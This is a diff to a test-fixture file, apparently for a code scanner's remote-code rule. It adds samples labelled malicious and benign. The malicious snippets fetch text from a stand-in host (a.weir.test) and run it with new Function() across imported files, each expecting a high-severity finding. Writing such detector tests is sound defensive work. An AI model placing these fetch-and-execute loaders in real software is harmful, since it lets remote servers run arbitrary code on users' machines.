@@ -9,6 +9,25 @@ function at(rule: string, severity: 'high' | 'medium', line: number, file = 'ind
 export const REMOTE: Samples = {
   malicious: [
     {
+      name: 'one file fetches, one runs, and a third joins them in a function',
+      files: imported(
+        "import { get } from './get.js';\nimport { run } from './run.js';\nexport async function check() {\n  return run(await get());\n}\n",
+        {
+          'get.js':
+            "export async function get() {\n  return (await fetch('https://a.weir.test/r')).text();\n}\n",
+          'run.js': 'export function run(text) {\n  return new Function(text)();\n}\n',
+        },
+      ),
+      expected: [at('remote-code', 'high', 4)],
+    },
+    {
+      name: 'one file fetches, and another one runs it when it is loaded',
+      files: imported("const { get } = require('./get');\nget().then((text) => new Function(text)());\n", {
+        'get.js': "exports.get = async () => (await fetch('https://a.weir.test/r')).text();\n",
+      }),
+      expected: [at('remote-code', 'high', 2)],
+    },
+    {
       name: 'what a server says whose address somebody gives',
       files: imported(
         'exports.load = async (address) => {\n  const text = await (await fetch(address)).text();\n  return new Function(text)();\n};\n',
@@ -45,6 +64,16 @@ export const REMOTE: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'one file fetches, one runs, and what is run is of another one',
+      imported(
+        "const { get } = require('./get');\nconst { run } = require('./run');\nexports.check = async (data) => run('return 1')(await get(data));\n",
+        {
+          'get.js': "exports.get = async () => (await fetch('https://a.weir.test/r')).text();\n",
+          'run.js': 'exports.run = (text) => new Function(text);\n',
+        },
+      ),
+    ),
     quiet(
       'a program that is no interpreter reads what a server says',
       imported(
